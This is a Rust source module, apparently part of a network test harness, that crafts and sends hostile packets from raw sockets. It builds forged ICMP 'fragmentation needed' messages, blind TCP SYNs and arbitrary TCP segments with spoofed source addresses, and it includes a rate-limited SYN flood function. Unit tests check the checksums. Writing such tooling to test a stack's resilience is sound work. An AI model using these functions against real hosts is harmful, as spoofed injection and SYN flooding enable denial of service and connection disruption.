//! Hostile and odd packets, as a router or an attacker on the path sends
//! them, from raw sockets.
//!
//! `icmp-frag-needed`: what a router on the path sends when a segment of a
//! connection does not fit the next hop, "fragmentation needed" (ICMP
//! destination unreachable, code 4, RFC 1191), quoting the segment's IPv4
//! header and first 8 bytes. Sent from this host's raw ICMP socket: the
//! kernel writes the outer IPv4 header.

use std::net::Ipv4Addr;

/// The Internet checksum (RFC 1071) of `b`.
fn checksum(b: &[u8]) -> u16 {
    let mut sum: u32 = b
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// The message about a segment `src:sport -> dst:dport` with sequence
/// number `seq`, for a next hop of `mtu` bytes.
pub fn frag_needed(
    src: Ipv4Addr,
    sport: u16,
    dst: Ipv4Addr,
    dport: u16,
    seq: u32,
    mtu: u16,
) -> Vec<u8> {
    let mut m = vec![3, 4, 0, 0, 0, 0];
    m.extend_from_slice(&mtu.to_be_bytes());
    // The quoted IPv4 header: a 1500-byte segment with DF, as sent.
    let mut ip = vec![0x45, 0, 0x05, 0xdc, 0, 0, 0x40, 0, 64, 6, 0, 0];
    ip.extend_from_slice(&src.octets());
    ip.extend_from_slice(&dst.octets());
    let c = checksum(&ip);
    ip[10..12].copy_from_slice(&c.to_be_bytes());
    m.extend_from_slice(&ip);
    m.extend_from_slice(&sport.to_be_bytes());
    m.extend_from_slice(&dport.to_be_bytes());
    m.extend_from_slice(&seq.to_be_bytes());
    let c = checksum(&m);
    m[2..4].copy_from_slice(&c.to_be_bytes());
    m
}

/// Sends `msg` to `to` from a raw ICMP socket.
pub fn send(to: Ipv4Addr, msg: &[u8]) -> std::io::Result<()> {
    send_raw(libc::IPPROTO_ICMP, to, msg)
}

/// Sends `msg` to `to` from a raw socket of protocol `proto`.
fn send_raw(proto: libc::c_int, to: Ipv4Addr, msg: &[u8]) -> std::io::Result<()> {
    // SAFETY: plain system calls on a socket this function owns and
    // closes, with correctly sized, initialised arguments.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_RAW, proto);
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        let sa = libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: 0,
            sin_addr: libc::in_addr {
                s_addr: u32::from(to).to_be(),
            },
            sin_zero: [0; 8],
        };
        let r = libc::sendto(
            fd,
            msg.as_ptr().cast(),
            msg.len(),
            0,
            (&sa as *const libc::sockaddr_in).cast(),
            std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
        );
        let e = std::io::Error::last_os_error();
        libc::close(fd);
        if r < 0 {
            return Err(e);
        }
    }
    Ok(())
}

/// A bare TCP SYN `src:sport -> dst:dport` with sequence number `seq`, its
/// checksum over the IPv4 pseudo-header: what an attacker on the path
/// sends to a live connection's ports (RFC 5961, section 4).
pub fn tcp_syn(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16, seq: u32) -> Vec<u8> {
    let mut t = Vec::with_capacity(20);
    t.extend_from_slice(&sport.to_be_bytes());
    t.extend_from_slice(&dport.to_be_bytes());
    t.extend_from_slice(&seq.to_be_bytes());
    t.extend_from_slice(&[0, 0, 0, 0, 0x50, 0x02, 0xfa, 0xf0, 0, 0, 0, 0]);
    let mut pseudo = Vec::with_capacity(12 + t.len());
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, 6, 0, t.len() as u8]);
    pseudo.extend_from_slice(&t);
    let c = checksum(&pseudo);
    t[16..18].copy_from_slice(&c.to_be_bytes());
    t
}

/// Sends the TCP segment `seg` (header and payload) to `to` from a raw TCP
/// socket: the kernel writes the IPv4 header, from this host's address.
pub fn send_tcp(to: Ipv4Addr, seg: &[u8]) -> std::io::Result<()> {
    send_raw(libc::IPPROTO_TCP, to, seg)
}

/// A TCP segment `src:sport -> dst:dport` with any sequence number,
/// acknowledgment, flags and payload, and no options, its checksum over
/// the IPv4 pseudo-header.
#[allow(clippy::too_many_arguments)]
pub fn tcp_segment(
    src: Ipv4Addr,
    sport: u16,
    dst: Ipv4Addr,
    dport: u16,
    seq: u32,
    ack: u32,
    flags: u8,
    payload: &[u8],
) -> Vec<u8> {
    let mut t = Vec::with_capacity(20 + payload.len());
    t.extend_from_slice(&sport.to_be_bytes());
    t.extend_from_slice(&dport.to_be_bytes());
    t.extend_from_slice(&seq.to_be_bytes());
    t.extend_from_slice(&ack.to_be_bytes());
    t.extend_from_slice(&[0x50, flags, 0xfa, 0xf0, 0, 0, 0, 0]);
    t.extend_from_slice(payload);
    let mut pseudo = Vec::with_capacity(12 + t.len());
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, 6]);
    pseudo.extend_from_slice(&(t.len() as u16).to_be_bytes());
    pseudo.extend_from_slice(&t);
    let c = checksum(&pseudo);
    t[16..18].copy_from_slice(&c.to_be_bytes());
    t
}

/// Sends the TCP segment `seg` from `src` to `dst` with an IPv4 header of
/// its own (`IPPROTO_RAW`): from any source address, as an attacker on
/// the segment forges one.
pub fn send_tcp_from(src: Ipv4Addr, dst: Ipv4Addr, seg: &[u8]) -> std::io::Result<()> {
    let total = 20 + seg.len();
    let mut ip = vec![0x45, 0];
    ip.extend_from_slice(&(total as u16).to_be_bytes());
    ip.extend_from_slice(&[0, 0, 0x40, 0, 64, 6, 0, 0]);
    ip.extend_from_slice(&src.octets());
    ip.extend_from_slice(&dst.octets());
    let c = checksum(&ip);
    ip[10..12].copy_from_slice(&c.to_be_bytes());
    ip.extend_from_slice(seg);
    send_raw(libc::IPPROTO_RAW, dst, &ip)
}

/// Sends `count` SYNs to `dst:dport` from spoofed sources: 10.0.0.50 to
/// 10.0.0.99 (no such hosts on the test segment, so nothing answers the
/// SYN-ACKs), ports from 1024, sequence numbers spread, at most `rate` a
/// second (0: as fast as they go); how many went.
pub fn syn_flood(count: u32, dst: Ipv4Addr, dport: u16, rate: u32) -> std::io::Result<u32> {
    let start = std::time::Instant::now();
    for i in 0..count {
        if rate > 0 {
            let due = std::time::Duration::from_secs_f64(f64::from(i) / f64::from(rate));
            if let Some(wait) = due.checked_sub(start.elapsed()) {
                std::thread::sleep(wait);
            }
        }
        let src = Ipv4Addr::new(10, 0, 0, 50 + (i % 50) as u8);
        let sport = 1024 + (i / 50 % 60_000) as u16;
        let seg = tcp_segment(
            src,
            sport,
            dst,
            dport,
            i.wrapping_mul(2_654_435_761),
            0,
            0x02,
            &[],
        );
        send_tcp_from(src, dst, &seg)?;
    }
    Ok(count)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_message_checks_out() {
        let m = frag_needed(
            Ipv4Addr::new(10, 0, 0, 100),
            83,
            Ipv4Addr::new(10, 0, 0, 4),
            40001,
            7,
            1400,
        );
        assert_eq!(m.len(), 8 + 20 + 8);
        assert_eq!(checksum(&m), 0, "ICMP checksum");
        assert_eq!(checksum(&m[8..28]), 0, "quoted header checksum");
        assert_eq!(&m[28..32], &[0, 83, 0x9c, 0x41]);
    }

    #[test]
    fn a_forged_segment_checks_out() {
        let (src, dst) = (Ipv4Addr::new(10, 0, 0, 77), Ipv4Addr::new(10, 0, 0, 100));
        let t = tcp_segment(src, 40001, dst, 82, 7, 9, 0x18, b"abc");
        let mut pseudo = [src.octets(), dst.octets()].concat();
        pseudo.extend_from_slice(&[0, 6, 0, 23]);
        pseudo.extend_from_slice(&t);
        assert_eq!(checksum(&pseudo), 0);
        assert_eq!(
            (&t[8..12], t[13], &t[20..]),
            (&[0, 0, 0, 9][..], 0x18, &b"abc"[..])
        );
    }

    #[test]
    fn the_syn_checks_out() {
        let (src, dst) = (Ipv4Addr::new(10, 0, 0, 4), Ipv4Addr::new(10, 0, 0, 100));
        let t = tcp_syn(src, 40001, dst, 85, 0x1234_5678);
        let mut pseudo = [src.octets(), dst.octets()].concat();
        pseudo.extend_from_slice(&[0, 6, 0, 20]);
        pseudo.extend_from_slice(&t);
        assert_eq!(checksum(&pseudo), 0);
        assert_eq!(t[13], 0x02, "SYN alone");
    }
}
